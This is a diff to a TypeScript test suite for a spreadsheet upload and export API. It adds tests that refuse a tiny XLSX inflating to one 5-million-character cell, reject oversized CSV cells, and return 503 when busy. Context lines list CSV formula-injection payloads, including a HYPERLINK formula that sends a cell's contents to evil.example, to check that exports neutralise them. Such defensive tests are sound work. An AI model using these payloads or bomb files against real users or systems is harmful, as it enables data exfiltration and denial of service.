@@ -127,6 +127,58 @@ describe('hostile and awkward uploads', () => {
     });
   });
 
+  describe('a cell cannot grow past import.maxCellChars, and errors never echo it (attack F13)', () => {
+    /** The attack's file: a valid XLSX whose header cell A1 is an inline string of `chars` characters, zipped small. */
+    async function oneHugeCell(chars: number): Promise<Buffer> {
+      const zip = await JSZip.loadAsync(await guardsXlsx(0));
+      zip.file(
+        'xl/worksheets/sheet1.xml',
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' +
+          `<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>${'A'.repeat(chars)}</t></is></c></row></sheetData></worksheet>`,
+      );
+      return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE', compressionOptions: { level: 9 } });
+    }
+
+    it('refuses a small XLSX holding one 5-million-character header cell (under the unzipped limit) while inflating it, with a short answer', async () => {
+      const bomb = await oneHugeCell(5_000_000);
+      expect(bomb.length).toBeLessThan(100 * 1024);
+      const res = await upload('guards', bomb);
+      expect([res.status, res.body.error.code, res.body.error.details]).toEqual([400, 'IMPORT.CELL_TOO_LONG', { maxCellChars: t.config.import.maxCellChars }]);
+      expect(JSON.stringify(res.body).length).toBeLessThan(1000);
+    });
+
+    it('refuses a CSV cell past the limit naming its row and column, and one just within it reads', async () => {
+      const max = t.config.import.maxCellChars;
+      const res = await upload('guards', `licenceNo,name,schoolCode\nC-0001,${'张'.repeat(max + 1)},SA\n`);
+      expect([res.status, res.body.error.code, res.body.error.details]).toEqual([400, 'IMPORT.CELL_TOO_LONG', { maxCellChars: max, row: 2, column: 2 }]);
+      const inRange = await readTable(Buffer.from(`licenceNo,name\nC-0001,${'张'.repeat(max)}\n`), { ...t.config.import });
+      expect(inRange.rows[0]!.cells[1]).toHaveLength(max);
+    });
+
+    it('quotes a long unknown column back only as a short excerpt', async () => {
+      const long = 'Q'.repeat(t.config.import.maxCellChars - 10);
+      const res = await upload('guards', `licenceNo,name,schoolCode,${long}\nC-0002,张伟,SA,x\n`);
+      expect([res.status, res.body.error.code]).toEqual([400, 'IMPORT.INVALID_HEADER']);
+      expect(JSON.stringify(res.body)).toContain('Q'.repeat(50));
+      expect(JSON.stringify(res.body).length).toBeLessThan(1000);
+    });
+
+    it('answers 503 with Retry-After when import.maxConcurrent imports/exports are running, and runs again once one ends', async () => {
+      const pool = t.app.get(ParsePool);
+      const releases: (() => void)[] = [];
+      const held = Array.from({ length: t.config.import.maxConcurrent }, () => pool.exclusive(() => new Promise<void>((r) => releases.push(r))));
+      const busy = await t.http().get('/api/v1/export/guards?format=xlsx').set(auth(staff));
+      expect([busy.status, busy.body.error.code, busy.headers['retry-after']]).toEqual([503, 'IMPORT.BUSY', expect.stringMatching(/^\d+$/)]);
+      expect((await upload('guards', 'licenceNo,name,schoolCode\nC-0003,张伟,SA\n')).status).toBe(503);
+      releases.forEach((r) => r());
+      await Promise.all(held);
+      // Free again; the XLSX is built in a worker thread and reads back.
+      const file = await t.http().get('/api/v1/export/guards?format=xlsx').set(auth(staff)).buffer(true).parse(binary);
+      expect(file.status).toBe(200);
+      expect((await readTable(file.body as Buffer)).header).toContain('licenceNo');
+    });
+  });
+
   describe('CSV exports carry no formulas', () => {
     const NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', '+1+1', '-2+3', '@SUM(1)', '=1+2'];
 
@@ -134,7 +186,7 @@ describe('hostile and awkward uploads', () => {
       const csv = ['licenceNo,name,schoolCode,phone', ...NAMES.map((n, i) => `F-000${i},"${n.replace(/"/g, '""')}",SA,+86-23-1234`)].join('\n');
       expect((await upload('guards', csv, '', admin)).body).toMatchObject({ created: NAMES.length });
       const exported = await t.http().get('/api/v1/export/guards').set(auth(admin)).buffer(true).parse(binary).expect(200);
-      const table = await readTable(exported.body as Buffer, { maxRows: 100, maxColumns: 20, maxUnzippedBytes: 1e6, charsetMinScore: 0.8 });
+      const table = await readTable(exported.body as Buffer, { maxRows: 100, maxColumns: 20, maxUnzippedBytes: 1e6, maxCellChars: 1000, charsetMinScore: 0.8 });
       const raw = (exported.body as Buffer).toString('utf8');
       for (const n of NAMES) expect(raw).not.toMatch(new RegExp(`(^|,)"?${n.slice(0, 3).replace(/[+()=@-]/g, '\\$&')}`, 'm'));
       expect(raw).toContain(`'=HYPERLINK`);
